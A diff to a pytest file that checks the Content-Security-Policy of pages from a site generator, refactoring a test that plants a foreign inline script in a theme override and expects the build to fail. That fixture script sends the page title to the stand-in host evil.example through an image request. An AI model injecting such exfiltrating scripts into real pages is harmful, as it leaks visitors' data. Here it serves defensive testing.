@@ -15,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from generator.publish import csp
-from generator.publish.engines import ENGINES
+from generator.publish.engines import ENGINES, get_engine
 
 ARTICLE = re.compile(r"<article\b.*?</article>", re.DOTALL)
 TITLE = re.compile(r"<title>(.*?)</title>", re.DOTALL)
@@ -81,7 +81,7 @@ def test_every_engine_page_allows_only_the_themes_known_inline_scripts(engine_si
     for path, page in _pages(engine_sites[engine]).items():
         policies = CSP_META.findall(page)
         assert len(policies) == 1, path
-        known, foreign = csp.scan_page(page)
+        known, foreign = csp.scan_page(page, get_engine(engine).inline_scripts)
         assert foreign == [], path
         allowed = {s.strip("'") for s in policies[0].split(";")[1].split()[2:]}
         assert allowed == known and known, path
@@ -161,20 +161,16 @@ FOREIGN_SCRIPT = "<script>new Image().src='https://evil.example/?'+document.titl
     "command, engine", [("mkdocs", "mkdocs")] + [("generator", e) for e in ENGINES]
 )
 def test_a_built_page_with_a_foreign_inline_script_fails_the_build(
-    built_with_each, command, engine, build_site, folder_snapshot
+    built_with_each, command, engine, build_site, folder_snapshot, theme_override
 ):
-    """A script in the theme override stands for any markup that reaches a page unsanitised."""
+    """A script in a project's theme override stands for any markup that reaches a page
+    unsanitised; that the build finds it shows, too, that the project's override wins."""
     site = built_with_each / engine / "site"
     before = folder_snapshot(site)
-    override = built_with_each / "docs" / "overrides" / "main.html"
-    original = override.read_text(encoding="utf-8")
-    override.write_text(
-        original + "\n{% block footer %}" + FOREIGN_SCRIPT + "{% endblock %}\n", encoding="utf-8"
-    )
-    try:
+    original = (theme_override.package / "main.html").read_text(encoding="utf-8")
+    planted = original + "\n{% block footer %}" + FOREIGN_SCRIPT + "{% endblock %}\n"
+    with theme_override(built_with_each, "main.html", planted):
         result = build_site(built_with_each, site, command=command, engine=engine)
-    finally:
-        override.write_text(original, encoding="utf-8")
     assert not result.ok, result.output
     assert re.search(
         r"site/index\.html:\d+:\d+: an inline script: \"new Image\(\)\.src='https://evil",
